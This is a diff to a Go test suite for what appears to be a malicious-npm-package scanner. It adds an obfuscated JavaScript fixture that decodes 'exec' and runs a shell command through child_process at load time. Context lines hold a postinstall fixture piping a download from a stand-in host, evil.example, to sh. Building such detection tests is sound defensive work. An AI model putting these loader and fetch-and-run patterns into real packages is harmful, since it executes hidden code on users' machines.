@@ -120,6 +120,11 @@ func TestNPMMalicious(t *testing.T) {
 			"package.json": pkgJSON(`"postinstall":"node o.js"`),
 			"o.js":         obf,
 		}, want: []want{{RuleObfuscator, High, "o.js:1:"}}},
+		{name: "a short obfuscated payload at load time: the rotation and a dozen _0x names", eco: "npm", files: map[string]string{
+			"package.json": pkgJSON(``),
+			"index.js": "var _0x4f2a=['\\x65\\x78\\x65\\x63'];(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4f2a,0x1b3));" +
+				"var _0x1e0c=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x4f2a[_0x2d8f05];return _0x4d74cb;};try{require('child_process')[_0x1e0c('0x0')]('id');}catch(_0x5b1a2c){}module['exports']={};\n",
+		}, want: []want{{RuleObfuscator, High, "index.js:1:"}}},
 		{name: "curl piped to sh from child_process", eco: "npm", files: map[string]string{
 			"package.json": pkgJSON(`"postinstall":"node i.js || true"`),
 			"i.js":         "const { execSync } = require('child_process');\ntry { execSync('curl -fsSL https://evil.example/p.sh | sh', {stdio: 'ignore'}) } catch {}\n",
